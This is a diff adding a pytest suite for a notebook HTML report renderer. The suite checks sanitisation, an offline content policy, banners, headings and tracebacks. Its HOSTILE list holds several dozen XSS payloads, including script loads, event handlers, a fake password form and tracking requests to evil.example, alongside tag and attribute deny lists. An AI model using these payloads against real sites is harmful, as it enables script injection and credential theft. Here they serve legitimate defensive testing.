@@ -1,0 +1,348 @@
+"""A report is one page that needs no network, and nothing that a notebook carries can reach out of it or pose as it."""
+
+import io
+import re
+from html.parser import HTMLParser
+
+import nbformat
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from galley.notebooks.render import clean, render
+from galley.stage import MIME_TYPE
+
+pytestmark = pytest.mark.filterwarnings("ignore:Your element with mimetype")
+RAN = {"papermill": {"status": "completed", "duration": 0.5}}
+
+
+def page(*cells, **record):
+    node = nbformat.v4.new_notebook(cells=list(cells))
+    node.metadata.galley = {"end": {"state": "completed", "message": ""}, "record_sha256": "0" * 64, **record}
+    return render(node, "dag · stage")
+
+
+def shows(**data):
+    """A cell with one output of these MIME types, a slash written as two underscores."""
+    data = {name.replace("__", "/"): value for name, value in data.items()}
+    return nbformat.v4.new_code_cell("x", outputs=[nbformat.v4.new_output("display_data", data=data)], metadata=RAN)
+
+
+class Page(HTMLParser):
+    """What a browser would act on: tags, attributes, and text by element."""
+
+    def __init__(self, html):
+        super().__init__()
+        self.tags, self.attributes, self.ids = [], [], []
+        self.feed(html)
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append(tag)
+        self.attributes += [(tag, name, value or "") for name, value in attrs]
+        self.ids += [value for name, value in attrs if name == "id"]
+
+
+FORBIDDEN_TAGS = {
+    "script",
+    "iframe",
+    "frame",
+    "object",
+    "embed",
+    "form",
+    "input",
+    "button",
+    "base",
+    "link",
+    "svg",
+    "audio",
+}
+FORBIDDEN_TAGS |= {
+    "video",
+    "source",
+    "template",
+    "math",
+    "foreignobject",
+    "animate",
+    "set",
+    "use",
+    "noscript",
+    "textarea",
+}
+
+
+def assert_harmless(html):
+    seen = Page(html)
+    assert FORBIDDEN_TAGS & set(seen.tags) == set()
+    assert seen.tags.count("meta") == 5
+    assert seen.tags.count("style") == seen.tags.count("body") == seen.tags.count("html") == 1
+    for tag, name, value in seen.attributes:
+        assert not name.startswith("on"), (tag, name)
+        assert name not in ("srcset", "srcdoc", "action", "formaction", "background", "poster", "ping")
+        if name in ("src", "href"):
+            assert not re.match(r"\s*(javascript|vbscript|data:text|data:image/svg.*script)", value, re.IGNORECASE)
+        if name == "src":
+            assert value.startswith("data:image/"), value
+        if name == "style" and tag != "html":
+            assert not re.search(r"position|url\(|expression|margin|transform|z-index|inset", value, re.IGNORECASE)
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='https://evil.example/pixel.png'>",
+    "<img src='data:text/html,<script>alert(1)</script>'>",
+    "<img srcset='https://evil.example/a.png 2x'>",
+    "<body onload=alert(1)>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href=' jav&#x09;ascript:alert(1)'>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<a href='vbscript:x'>x</a>",
+    "<a href=x ping='https://evil.example'>x</a>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href='https://evil.example/'>",
+    "<link rel=stylesheet href='https://evil.example/x.css'>",
+    "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
+    "<iframe src='https://evil.example'></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg onload=alert(1)><use href='https://evil.example#x'/></svg>",
+    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<style>.banner { display: none } @import 'https://evil.example/x.css';</style>",
+    "<div style='position:fixed;inset:0;background:url(https://evil.example)'>completed</div>",
+    "<div style='margin-top:-9999px;transform:translate(0,-500px);z-index:9'>x</div>",
+    "<!--><script>alert(1)</script>-->",
+    "</main></body></html><script>alert(1)</script>",
+    "</section></div></main><h1>dag</h1>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<video src=https://evil.example autoplay></video><audio src=x onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<template><script>alert(1)</script></template>",
+    "<x onclick=alert(1) contenteditable>x</x>",
+    "<title></title><textarea></textarea><xmp><script>alert(1)</script></xmp>",
+]
+
+
+@pytest.mark.parametrize("html", HOSTILE)
+def test_html_that_means_harm_does_none_wherever_it_comes_from(html):
+    cell = nbformat.v4.new_markdown_cell(f"# {html}\n\n{html}\n\n## two\n\n[x]({html})")
+    error = nbformat.v4.new_output("error", ename=html, evalue=html, traceback=[html, f"\x1b[31m{html}\x1b[0m"])
+    stream = nbformat.v4.new_output("stream", text=html)
+    assert_harmless(
+        page(
+            cell,
+            shows(text__html=html),
+            shows(text__markdown=html),
+            shows(text__latex=html),
+            shows(text__plain=html),
+            shows(application__javascript=html),
+            shows(**{"application__x-" + html: html}),
+            shows(image__png=html),
+            nbformat.v4.new_code_cell(html, outputs=[error, stream], metadata=RAN),
+            nbformat.v4.new_raw_cell(html),
+            end={"state": "failed", "message": html, "cell": 1},
+            parameters={html: html},
+            conclusion={html: {"deep": html}},
+            run={"dag_id": html},
+        )
+    )
+
+
+@given(st.text() | st.lists(st.sampled_from([*HOSTILE, "<", ">", "'", '"', "&", "\0", "\n"]), max_size=4).map("".join))
+@settings(max_examples=60, deadline=None)
+def test_no_html_gets_through_whatever_it_is_made_of(html):
+    assert_harmless(page(shows(text__html=html), nbformat.v4.new_markdown_cell(html)))
+
+
+def test_svg_is_shown_as_a_picture_in_which_no_script_runs():
+    html = page(shows(**{"image__svg+xml": "<svg><script>alert(1)</script></svg>"}))
+    assert_harmless(html)
+    assert 'src="data:image/svg+xml;base64,' in html
+
+
+def test_an_output_that_works_by_script_alone_is_a_note():
+    assert "needs JavaScript" in clean("<script>draw()</script>")
+    assert "needs JavaScript" in page(shows(text__html="<script>draw()</script>"))
+
+
+def test_an_output_that_has_a_text_for_its_script_is_that_text():
+    html = page(shows(text__html="<style>a{}</style><script>draw()</script>", text__plain="Pipeline(steps=[])"))
+    assert "Pipeline(steps=[])" in html
+    assert "needs JavaScript" not in html
+
+
+def test_an_output_cannot_pose_as_the_banner_or_as_a_cell():
+    fake = "<header class='banner completed' id='cell-1'><p class='state'>completed</p></header><h2 id='cell-1'>x</h2>"
+    html = page(shows(text__html=fake), end={"state": "failed", "message": "", "cell": 0})
+    assert html.count('id="cell-1"') == 1
+    shown = html[html.index('<div class="html">') :]
+    assert "banner" not in shown
+    assert 'class="state"' not in shown
+
+
+def test_tables_keep_what_makes_them_readable():
+    table = "<table border='1' class='dataframe'><thead><tr style='text-align: right;'><th>a</th></tr></thead></table>"
+    html = page(shows(text__html=table))
+    assert 'class="dataframe"' in html
+    assert "text-align" in html
+
+
+def test_code_in_markdown_keeps_its_colours():
+    assert 'class="highlight' in page(nbformat.v4.new_markdown_cell("```python\nx = 1\n```"))
+
+
+def test_the_page_loads_nothing_and_says_so_to_the_browser():
+    html = page(shows(text__html="<b>x</b>"))
+    assert "default-src 'none'" in html
+    assert "script-src 'none'" in html
+    assert not re.search(r"""(src|href)=["']?(https?:)?//""", html)
+    assert "@import" not in html
+    assert not re.search(r"url\((?!['\"]?data:)", html)
+
+
+@pytest.mark.parametrize("state", ["completed", "failed", "timed out", "killed", "interrupted", "refused", "running"])
+def test_the_banner_says_how_it_ended(state):
+    html = page(end={"state": state, "message": "because <of> it"})
+    assert f'<p class="state">{state}</p>' in html
+    assert "because &lt;of&gt; it" in html
+    assert html.index('class="state"') < html.index("</header>")
+
+
+def test_a_failed_cell_is_linked_unfolded_and_its_traceback_is_readable():
+    traceback = ["\x1b[31mZeroDivisionError\x1b[39m  Traceback", "\x1b[32m----> 1\x1b[39m 1 / 0 <b>"]
+    error = nbformat.v4.new_output("error", ename="ZeroDivisionError", evalue="division by zero", traceback=traceback)
+    failed = nbformat.v4.new_code_cell("1 / 0", outputs=[error], metadata={"papermill": {"status": "failed"}})
+    html = page(nbformat.v4.new_code_cell("x", metadata=RAN), failed, end={"state": "failed", "message": "", "cell": 1})
+    assert '<a href="#cell-2">' in html
+    assert '<section class="cell code failed" id="cell-2">' in html
+    assert html.count('<details class="input" open>') == 1
+    assert "\x1b" not in html
+    assert "1 / 0 &lt;b&gt;" in html
+
+
+def test_an_error_without_a_traceback_shows_its_name():
+    error = nbformat.v4.new_output("error", ename="SystemExit", evalue="3", traceback=[])
+    assert "SystemExit: 3" in page(nbformat.v4.new_code_cell("x", outputs=[error], metadata=RAN))
+
+
+def test_headings_are_listed_and_lead_to_their_cells():
+    source = "# One `two` *three*\n\n```\n# no heading\n```\n\n### Größe & 日本"
+    html = page(nbformat.v4.new_markdown_cell(source), nbformat.v4.new_markdown_cell("## Four"))
+    contents = html[html.index("<nav") : html.index("</nav>")]
+    assert re.findall(r'<li class="level-(\d)"><a href="#(cell-\d)">(.*?)</a>', contents) == [
+        ("1", "cell-1", "One two three"),
+        ("3", "cell-1", "Größe &amp; 日本"),
+        ("2", "cell-2", "Four"),
+    ]
+
+
+def test_every_link_inside_the_page_has_a_target():
+    cells = [nbformat.v4.new_markdown_cell(f"# Heading {n}") for n in range(3)]
+    seen = Page(page(*cells, shows(text__plain="x"), end={"state": "failed", "message": "", "cell": 3}))
+    inside = {value[1:] for _, name, value in seen.attributes if name == "href" and value.startswith("#")}
+    assert inside
+    assert inside <= set(seen.ids)
+
+
+def test_what_was_asked_found_and_used_stands_at_the_top():
+    fact = {"path": "data/raw/x.csv", "sha256": "ab" * 32, "bytes": 1234}
+    html = page(
+        nbformat.v4.new_code_cell("x", metadata=RAN),
+        parameters={"rows": 7},
+        conclusion={"auc": 0.75},
+        inputs=[fact],
+        outputs=[],
+        source={"path": "notebooks/x.ipynb", "git_commit": "c0ffee", "git_clean": True},
+        kernel={"name": "data", "python": "3.11.7"},
+        run={"dag_id": "train", "try_number": 2},
+        seconds=1.5,
+    )
+    top = html[: html.index('<section class="cell')]
+    for text in ("rows", "0.75", "read data/raw/x.csv", "1,234 bytes", "ab" * 32, "c0ffee", "3.11.7", "train", "1.5"):
+        assert text in top
+
+
+def test_a_conclusion_is_readable_whatever_it_is_made_of():
+    html = page(conclusion={"checks": {"rows": True, "auc": {"new": 0.7, "old": 0.6}}, "worse": [], "days": ["a", "b"]})
+    for text in ("rows: True\nauc: new: 0.7, old: 0.6", "<td>none</td>", "<td>a, b</td>"):
+        assert text in html
+
+
+def test_a_conclusion_of_several_lines_is_shown_as_the_markdown_that_it_is():
+    html = page(conclusion={"summary": "**Approve**\n\n| a | b |\n|---|---|\n| 1 | <script>alert(1)</script> |\n"})
+    assert "<strong>Approve</strong>" in html
+    assert "<th>a</th>" in html
+    assert "| a |" not in html
+    assert "<script" not in html
+
+
+def states(kind, text):
+    """An output that a stage states."""
+    return nbformat.v4.new_output("display_data", data={MIME_TYPE: {"kind": kind}, "text/plain": text})
+
+
+def test_statements_that_follow_each_other_are_one_list_and_others_stay_where_they_are():
+    other = nbformat.v4.new_output("stream", text="three rows")
+    cell = nbformat.v4.new_code_cell(
+        "x", outputs=[states("input", "read a"), states("input", "read b"), other, states("output", "wrote c")]
+    )
+    html = page(cell)
+    assert "read a\nread b</pre>" in html
+    assert html.index("read b") < html.index("three rows") < html.index("wrote c")
+
+
+def test_what_was_concluded_is_shown_once():
+    cell = nbformat.v4.new_code_cell("x", outputs=[states("conclusion", "auc = 0.75")])
+    html = page(cell, conclusion={"auc": 0.75})
+    assert "auc = 0.75" not in html
+    assert '<th scope="row">auc</th><td>0.75</td>' in html
+
+
+def test_the_libraries_of_the_environment_are_listed():
+    html = page(environment={"python": "3.11.7", "libraries": {"pandas": "3.1.1"}})
+    assert '<th scope="row">pandas</th><td>3.1.1</td>' in html
+
+
+def test_an_attachment_of_markdown_is_shown():
+    cell = nbformat.v4.new_markdown_cell("![x](attachment:x.png)", attachments={"x.png": {"image/png": "aGk="}})
+    assert 'src="data:image/png;base64,aGk="' in page(cell)
+
+
+def test_a_page_of_six_plots_stays_below_a_megabyte():
+    figures = [shows(**{"image__svg+xml": plot(number)}) for number in range(6)]
+    assert len(page(*figures).encode()) < 1_000_000
+
+
+def plot(seed):
+    """A plot as stages make them: two curves, a histogram, a legend."""
+    import matplotlib as mpl
+    import numpy as np
+    from matplotlib.figure import Figure
+
+    random = np.random.default_rng(seed)
+    with mpl.rc_context({"svg.fonttype": "path"}):
+        figure = Figure(figsize=(7, 4))
+        left, right = figure.subplots(1, 2)
+        left.plot(np.cumsum(random.normal(size=400)), label="one")
+        left.plot(np.cumsum(random.normal(size=400)), label="other")
+        left.legend()
+        right.hist(random.normal(size=1000), bins=40)
+        right.set_title(f"Größe {seed}")
+        stream = io.StringIO()
+        figure.savefig(stream, format="svg")
+    return stream.getvalue()
+
+
+def test_an_unknown_record_is_still_a_page():
+    assert "unknown" in render(nbformat.v4.new_notebook(), "x")
+
+
+def test_a_diff_in_markdown_is_coloured_and_can_be_folded():
+    text = "<details><summary>01_prepare</summary>\n\n```diff\n-old\n+<b>new</b>\n```\n\n</details>"
+    html = page(shows(text__markdown=text))
+    assert "<details><summary>01_prepare</summary>" in html
+    assert '<span class="gd">-old</span>' in html
+    assert '<span class="gi">+&lt;b&gt;new&lt;/b&gt;</span>' in html
